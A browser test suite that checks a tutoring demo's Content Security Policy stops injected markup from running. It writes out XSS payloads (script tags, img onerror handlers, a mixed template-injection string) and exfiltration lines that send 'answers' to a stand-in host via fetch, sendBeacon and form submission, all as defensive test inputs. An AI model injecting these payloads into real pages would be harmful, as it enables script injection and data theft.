"""What a page's policy keeps from running, whatever gets into the page."""

from __future__ import annotations

from dataclasses import replace
from typing import TYPE_CHECKING

import pytest

from demo.server.learners import LEARNERS
from demo.server.settings import ROOT
from tests.e2e.tracked_page import BOOT_TIMEOUT_MS
from tests.support.demo_server import DemoServer
from tests.support.policy_watch import PolicyWatch

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

    from playwright.sync_api import Page

    from tests.support.chromium import Chromium

pytestmark = pytest.mark.browser

MAIN_THREAD = ("/", "/lesson/fractions", "/plain/fractions", "/journal", "/frameworks/react.html")
PAGES = (*MAIN_THREAD, "/worker/fractions")

# Everything that markup can do to run a script, in one place each.
INJECTED = {
    "script-src-elem": "<script>ran('script')</script>",
    "script-src-attr": "<img src=/nothing.png onerror=\"ran('attribute')\">",
    "style-src-attr": '<p style="color: rgb(1, 2, 3)">Styled</p>',
    "style-src-elem": "<style>p { color: rgb(1, 2, 3) }</style>",
    "img-src": '<img src="https://elsewhere.example/pixel.png">',
    "frame-src": '<iframe src="https://elsewhere.example/"></iframe>',
}


@pytest.fixture
def refused(browser: Chromium) -> Callable[[str], list[str]]:
    """Wait for a violation of one directive, and begin anew."""
    watch = PolicyWatch.of(browser.context)

    def await_(directive: str) -> list[str]:
        tab = browser.context.pages[-1]
        for _ in range(200):
            if any(f"securitypolicyviolation {directive}" in each for each in watch.violations):
                return watch.forget()
            tab.wait_for_timeout(50)
        raise AssertionError(f"{directive} refused nothing: {watch.violations}")

    return await_


@pytest.fixture
def open_at(browser: Chromium, demo: DemoServer) -> Callable[[str], Page]:
    """Open a page of the demo, as Ada."""

    def open_(path: str) -> Page:
        demo.sign_in(browser.context, "ada")
        tab = browser.context.new_page()
        tab.goto(f"{demo.url}{path}")
        tab.evaluate("window.ran = (what) => { window.whatRan = what; }")
        return tab

    return open_


@pytest.mark.parametrize("path", PAGES)
def test_what_is_injected_does_not_run(open_at, refused, path):
    tab = open_at(path)
    for directive, markup in INJECTED.items():
        # A fragment from a range runs its scripts, which innerHTML would not.
        tab.evaluate(
            "markup => document.body.append("
            "document.createRange().createContextualFragment(markup))",
            markup,
        )
        refused(directive)
    assert tab.evaluate("window.whatRan") is None
    colour = "getComputedStyle([...document.querySelectorAll('p')].at(-1)).color"
    assert tab.evaluate(colour) != "rgb(1, 2, 3)"


# From a timer: what a debugger evaluates, as the test does, is not held to the policy.
_EVAL = """(source) => new Promise((resolve) => setTimeout(() => {
  try { resolve(`ran: ${Function(source)()}`); } catch (error) { resolve(error.name); }
}))"""


@pytest.mark.parametrize("path", MAIN_THREAD)
def test_text_is_never_run(open_at, refused, path):
    assert open_at(path).evaluate(_EVAL, "return 1") == "EvalError"
    refused("script-src")


def test_only_a_page_with_workers_of_pyscript_runs_text(open_at):
    assert open_at("/worker/fractions").evaluate(_EVAL, "return 1") == "ran: 1"


@pytest.mark.parametrize(
    ("directive", "source"),
    [
        ("connect-src", "fetch('https://elsewhere.example/?answers').catch(() => {})"),
        ("connect-src", "navigator.sendBeacon('https://elsewhere.example/', 'answers')"),
        ("script-src-elem", "import('https://elsewhere.example/a.js').catch(() => {})"),
        ("script-src-elem", "import('data:text/javascript,ran(1)').catch(() => {})"),
        ("worker-src", "new Worker('data:text/javascript,1')"),
        (
            "form-action",
            "document.body.append(Object.assign(document.createElement('form'), "
            "{ action: 'https://elsewhere.example/', id: 'leak' })), "
            "document.querySelector('#leak').submit()",
        ),
        (
            "base-uri",
            "document.head.append(Object.assign(document.createElement('base'), "
            "{ href: 'https://elsewhere.example/' }))",
        ),
    ],
)
def test_nothing_comes_from_or_goes_elsewhere(open_at, refused, directive, source):
    tab = open_at("/lesson/fractions")
    tab.evaluate(f"setTimeout(() => {{ {source}; }})")
    refused(directive)
    assert tab.evaluate("window.whatRan") is None
    assert "/lesson/fractions" in tab.url


def test_no_other_site_shows_our_pages(browser, demo):
    tab = browser.context.new_page()
    tab.goto("about:blank")
    tab.evaluate(f"document.body.innerHTML = '<iframe src=\"{demo.url}/\"></iframe>'")
    tab.wait_for_function("() => frames.length === 1")
    for _ in range(200):
        if tab.frames[-1].url.startswith("chrome-error:"):
            return
        tab.wait_for_timeout(50)
    raise AssertionError(f"it is shown: {tab.frames[-1].url}")


HOSTILE = "<img src=x onerror=\"document.title='pwned'\">'\"&lt;${1+1}{{2*2}}"


@pytest.fixture
def hostile_names(
    monkeypatch: pytest.MonkeyPatch, tmp_path, bundle_dir, port
) -> Iterator[DemoServer]:
    """A server whose learner and lesson have names that are markup, and so has every text."""
    monkeypatch.setitem(LEARNERS, "ada", replace(LEARNERS["ada"], given_name=HOSTILE))
    lessons = tmp_path / "lessons"
    lessons.mkdir()
    text = (ROOT / "demo" / "lessons" / "fractions.toml").read_text()
    lines = []
    for line in text.splitlines():
        field, equals, _ = line.partition(" = ")
        named = equals and field in {"name", "summary", "prompt", "explanation"}
        lines.append(f"{field} = '''{HOSTILE}'''" if named else line)
    (lessons / "fractions.toml").write_text("\n".join(lines))
    server = DemoServer(tmp_path, bundle_dir, port, lessons_dir=lessons)
    server.start()
    yield server
    server.stop()


@pytest.mark.parametrize("path", PAGES)
def test_names_are_text_on_every_page(chromium, hostile_names, path):
    """A name is shown letter by letter; nothing of it becomes an element, or runs."""
    context = chromium.context
    watch = PolicyWatch.of(context)
    watch.forget()
    hostile_names.sign_in(context, "ada")
    tab = context.new_page()
    try:
        tab.goto(f"{hostile_names.url}{path}")
        tab.wait_for_function(
            "name => document.body.innerText.includes(name)", arg=HOSTILE, timeout=BOOT_TIMEOUT_MS
        )
        if "/lesson/" in path:
            tab.wait_for_selector("main[data-state=ready]", timeout=BOOT_TIMEOUT_MS)
            tab.get_by_role("radio").first.check()
            tab.get_by_test_id("submit").click()
            tab.get_by_test_id("feedback").get_by_text(HOSTILE).wait_for()
        assert tab.locator("img[src=x], [onerror]").count() == 0
        assert tab.title() != "pwned"
        assert watch.forget() == []
    finally:
        tab.close()
        context.clear_cookies()
